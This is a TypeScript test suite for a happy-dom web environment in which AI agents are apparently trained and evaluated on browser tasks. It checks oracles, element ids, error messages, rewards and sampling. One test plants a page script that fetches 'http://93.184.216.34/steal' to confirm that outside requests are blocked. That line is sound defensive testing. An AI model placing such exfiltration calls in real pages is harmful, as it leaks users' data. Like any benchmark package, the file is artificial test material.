/**
 * The web environment on the in-process happy-dom backend (fast): every task type's oracle, the text
 * view and its stable ids, error observations, the horizon, request blocking, sampling and schemas.
 */
import type { AddressInfo } from 'node:net';
import { serve, type ServerType } from '@hono/node-server';
import { Hono } from 'hono';
import { afterAll, describe, expect, it } from 'vitest';
import { runEpisode } from '../../environments/episode-runner.ts';
import { loadEnvironment } from '../../environments/index.ts';
import { scriptedPolicy } from '../../environments/policies/scripted.ts';
import { HappyDomBackend } from '../../environments/web/happy-dom-backend.ts';
import { web } from '../../environments/web/definition.ts';
import { pageDocument } from '../../environments/web/page-document.ts';
import { parsePageView } from '../../environments/web/page-view.ts';
import { closeWebRuntime, taskServer } from '../../environments/web/runtime.ts';
import { TASK_TYPES, TASK_TYPE_NAMES } from '../../environments/web/task-types/index.ts';
import { WebOptions, type WebTask } from '../../environments/web/task.ts';

const options = WebOptions.parse({ backend: 'happy-dom' });
const reply = (text: string) => ({ text, tokens: { prompt: 0, completion: 0 }, inferenceMs: 0 });

afterAll(closeWebRuntime);

function play(task: WebTask, actions: string[], opts: Partial<WebOptions> = {}) {
  return runEpisode({ definition: web, task, options: { ...options, ...opts }, policy: scriptedPolicy(actions, 'test script'), seed: 0 });
}

describe('web environment (happy-dom)', () => {
  it('has at least ten task types, each with its own horizon', () => {
    expect(TASK_TYPES.length).toBeGreaterThanOrEqual(10);
    expect(new Set(TASK_TYPES.map((t) => t.horizon)).size).toBeGreaterThan(3);
  });

  it("every task type's oracle succeeds on several seeds", async () => {
    for (const type of TASK_TYPE_NAMES) {
      for (const seed of [1, 2, 3]) {
        const task = { type, seed } as WebTask;
        const result = await runEpisode({ definition: web, task, options, policy: web.oracle(task, options), seed: 0 });
        expect({ type, seed, reward: result.reward, error: result.error, stop: result.stopReason }).toEqual({ type, seed, reward: 1, error: null, stop: 'done' });
        expect(result.steps).toBeLessThanOrEqual(TASK_TYPES.find((t) => t.name === type)!.horizon);
      }
    }
  });

  it('is registered by name', async () => {
    expect((await loadEnvironment('web')).name).toBe('web');
  });

  it('shows the goal and a text view with stable ids that survive other elements appearing', async () => {
    const env = await web.create({ type: 'navigate-tabs', seed: 4 }, options);
    const first = await env.reset(0);
    expect(first).toMatch(/^Goal: Open the ".+" tab and click ".+"\./);
    const view = parsePageView(first);
    const tabs = view.elements.filter((e) => e.role === 'tab');
    expect(tabs.length).toBeGreaterThanOrEqual(3);
    const next = await env.step(reply(`click ${tabs[1].id}`));
    const after = parsePageView(next.observation);
    for (const tab of tabs) expect(after.elements.find((e) => e.label === tab.label)?.id).toBe(tab.id);
    expect(after.elements.find((e) => e.id === tabs[1].id)?.attributes).toMatch(/selected/);
    // The newly shown panel's buttons got new ids, not recycled ones.
    const fresh = after.elements.filter((e) => !view.elements.some((v) => v.id === e.id));
    expect(fresh.length).toBeGreaterThan(0);
    expect(Math.min(...fresh.map((e) => e.id))).toBeGreaterThan(Math.max(...view.elements.map((e) => e.id)));
    await env.close();
  });

  it('answers unparsable and impossible actions with an error observation and goes on', async () => {
    const task: WebTask = { type: 'fill-form', seed: 2 };
    const env = await web.create(task, options);
    const view = parsePageView(await env.reset(0));
    const textbox = view.elements.find((e) => e.role === 'textbox')!;
    const checkbox = view.elements.find((e) => e.role === 'checkbox')!;
    const select = view.elements.find((e) => e.role === 'select')!;
    const cases: Array<[string, RegExp]> = [
      ['jump around', /unknown action/],
      ['click', /click needs one element id/],
      ['type 3 hello', /needs an element id and a quoted string/],
      ['press F13', /press needs one key of/],
      ['click 999', /no element \[999\]/],
      [`check ${textbox.id}`, /is a textbox, not a checkbox/],
      [`type ${checkbox.id} "x"`, /is a checkbox, not a text field/],
      [`select ${select.id} "Atlantis"`, /has no option "Atlantis"/],
      ['scroll up', /already at the top/],
    ];
    await env.close();
    for (const [action, error] of cases) {
      // A fresh episode per case (the ids are the same in each): the horizon is shorter than the list.
      const fresh = await web.create(task, options);
      await fresh.reset(0);
      const step = await fresh.step(reply(action));
      await fresh.close();
      expect(step.done).toBe(false);
      expect(step.info.ok).toBe(false);
      expect(step.observation).toMatch(/^Goal: /);
      expect(step.observation).toMatch(error);
    }
    const again = await web.create(task, options);
    await again.reset(0);
    expect((await again.step(reply('jump around'))).done).toBe(false);
    const ok = await again.step(reply(`type ${textbox.id} "Ada"`));
    expect(ok.info.ok).toBe(true);
    expect(ok.observation).toContain(`[${textbox.id}] textbox "First name" value="Ada"`);
    await again.close();
  });

  it('keeps off-screen and hidden elements out of reach until scrolled to or shown', async () => {
    const env = await web.create({ type: 'scroll-find', seed: 3 }, { ...options, screenLines: 20 });
    const first = await env.reset(0);
    expect(first).toMatch(/\(lines 1-20 of \d+; more below\)/);
    expect(parsePageView(first).elements).toHaveLength(0);
    let observation = first;
    let steps = 0;
    while (parsePageView(observation).elements.length === 0 && steps++ < 5) observation = (await env.step(reply('scroll down'))).observation;
    const button = parsePageView(observation).elements[0];
    expect(button.role).toBe('button');
    // Scrolled back up until it is off screen, the button cannot be clicked (and keeps its id).
    let up = observation;
    for (let i = 0; i < 3 && parsePageView(up).elements.some((e) => e.id === button.id); i++) up = (await env.step(reply('scroll up'))).observation;
    expect(parsePageView(up).elements.some((e) => e.id === button.id)).toBe(false);
    const refused = await env.step(reply(`click ${button.id}`));
    expect(refused.observation).toMatch(new RegExp(`element \\[${button.id}\\] is off screen; scroll down`));
    await env.close();

    // A closed calendar's day buttons are hidden: they have no ids yet, and the calendar must be opened first.
    const picker = await web.create({ type: 'date-picker', seed: 1 }, options);
    const view = parsePageView(await picker.reset(0));
    expect(view.elements.map((e) => e.label)).toEqual(['Choose date', 'Submit']);
    await picker.close();
  });

  it('reward is what the page judged: a wrong answer ends with 0, an early done with 0, the horizon with 0', async () => {
    const task: WebTask = { type: 'click-button', seed: 9 };
    const env = await web.create(task, options);
    const first = await env.reset(0);
    const goal = /Click the button "(.+)"/.exec(first)![1];
    const wrong = parsePageView(first).elements.find((e) => e.label !== goal)!;
    const step = await env.step(reply(`click ${wrong.id}`));
    expect(step).toMatchObject({ done: true, reward: 0, info: { success: false } });
    await env.close();

    const early = await play({ type: 'login', seed: 1 }, ['done']);
    expect(early).toMatchObject({ reward: 0, steps: 1, stopReason: 'done' });

    const horizon = TASK_TYPES.find((t) => t.name === 'enter-text')!.horizon;
    const idle = await play({ type: 'enter-text', seed: 1 }, Array(horizon).fill('scroll down'));
    expect(idle).toMatchObject({ reward: 0, steps: horizon, stopReason: 'done' });
    expect(idle.transcript.at(-1)).toMatchObject({ kind: 'observation', done: true });
  });

  it('accepts the action inside some explanation, and the tool_calls form', async () => {
    const env = await web.create({ type: 'click-button', seed: 9 }, options);
    const first = await env.reset(0);
    const goal = /Click the button "(.+)"/.exec(first)![1];
    const target = parsePageView(first).elements.find((e) => e.label === goal)!;
    const step = await env.step({ text: '', toolCalls: [{ name: 'click', arguments: { id: target.id } }], tokens: { prompt: 0, completion: 0 }, inferenceMs: 0 });
    expect(step).toMatchObject({ done: true, reward: 1 });
    await env.close();
    const env2 = await web.create({ type: 'click-button', seed: 9 }, options);
    await env2.reset(0);
    expect(await env2.step(reply(`I will press it.\nclick ${target.id}`))).toMatchObject({ done: true, reward: 1 });
    await env2.close();
  });

  it('blocks requests that are not to the task server', async () => {
    // A page of the test's own, on its own loopback server, that tries to reach a public address.
    const app = new Hono();
    app.get('/exfiltrate', (c) =>
      c.html(
        pageDocument({
          title: 'exfiltrate',
          goal: 'none',
          body: '<p id="status">pending</p>',
          script: "fetch('http://93.184.216.34/steal').then(function () { document.getElementById('status').textContent = 'reached'; }, function () { document.getElementById('status').textContent = 'fetch blocked'; });",
          data: null,
        }),
      ),
    );
    const server = await new Promise<ServerType>((resolve) => {
      const s = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 }, () => resolve(s));
    });
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const page = await new HappyDomBackend().open({ url: `${origin}/exfiltrate`, allowedOrigin: origin, screenLines: 30, timeoutMs: 5_000 });
      await expect.poll(() => page.observe(), { timeout: 5_000 }).toMatch(/text "fetch blocked"/);
      expect(page.blockedRequests).toEqual(['http://93.184.216.34/steal']);
      await page.close();
    } finally {
      server.close();
    }
  });

  it('the random policy plays legal actions reproducibly, and rarely succeeds', async () => {
    const task: WebTask = { type: 'fill-form', seed: 5 };
    const run = () => runEpisode({ definition: web, task, options, policy: web.random(task, options, 3), seed: 0 });
    const a = await run();
    const b = await run();
    expect(a.error).toBeNull();
    expect(a.transcript.filter((e) => e.kind === 'action').map((e) => e.text)).toEqual(b.transcript.filter((e) => e.kind === 'action').map((e) => e.text));
    const parsed = a.transcript.filter((e) => e.kind === 'observation' && e.step > 0 && !e.done).map((e) => (e as { text: string }).text);
    for (const text of parsed) expect(text).not.toMatch(/unknown action|needs/);
    expect(a.reward).toBe(0);
  });

  it('samples deterministic, disjoint splits over all task types; rejects bad tasks and options', () => {
    const train = web.sampleTasks('train', 60, 1, options);
    expect(web.sampleTasks('train', 60, 1, options)).toEqual(train);
    const evalIds = new Set(web.sampleTasks('eval', 60, 1, options).map((t) => t.id));
    expect(train.some((t) => evalIds.has(t.id))).toBe(false);
    expect(new Set(train.map((t) => ('type' in t.task ? t.task.type : null))).size).toBe(TASK_TYPE_NAMES.length);
    expect(new Set(web.sampleTasks('train', 10, 1, { ...options, taskTypes: ['login'] }).map((t) => ('type' in t.task ? t.task.type : null)))).toEqual(new Set(['login']));
    expect(web.taskSchema.safeParse({ type: 'hack-the-planet', seed: 1 }).success).toBe(false);
    expect(web.optionsSchema.safeParse({ backend: 'firefox' }).success).toBe(false);
  });

  it('generates the same page from the same seed and different pages from different seeds', async () => {
    const server = await taskServer();
    const get = async (seed: number) => (await fetch(`${server.origin}/task/search-list/${seed}`)).text();
    expect(await get(1)).toBe(await get(1));
    expect(await get(1)).not.toBe(await get(2));
  });
});
